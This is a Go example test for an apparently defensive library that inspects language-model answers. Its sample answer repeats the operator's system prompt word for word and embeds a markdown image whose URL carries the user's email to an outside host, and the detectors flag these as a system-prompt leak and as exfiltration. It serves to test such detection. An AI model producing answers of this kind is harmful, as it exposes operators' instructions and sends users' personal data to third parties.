package inspect_test

import (
	"fmt"

	"github.com/infershield/infershield/inspect"
)

// What a request holds is remembered while it is read; the answer is inspected
// with that memory.
func ExampleMemory() {
	engine := inspect.New(inspect.Detectors()...)
	const operator = "You are Beacon of Northwind. Never promise a refund without the code word of the day. Do not name colleagues."
	const user = "I am alice.jones@acme-health.com. Where is my order?"

	memory := inspect.NewMemory()
	memory.Instructions(operator)
	memory.Said(user)
	memory.Values(user, engine.Scan(inspect.Source{Role: inspect.User}, user))

	answer := "My text says: You are Beacon of Northwind. Never promise a refund without the code word of the day.\n" +
		"![status](https://cdn.example.net/p.png?u=alice.jones@acme-health.com)"
	for _, f := range engine.Scan(inspect.Source{Role: inspect.Model, Memory: memory}, answer) {
		if f.Score >= 0.9 && f.Category != inspect.PII {
			fmt.Println(f.Category, f.Rule)
		}
	}
	// Output:
	// leak system_prompt_leak
	// exfiltration pii_in_url
}
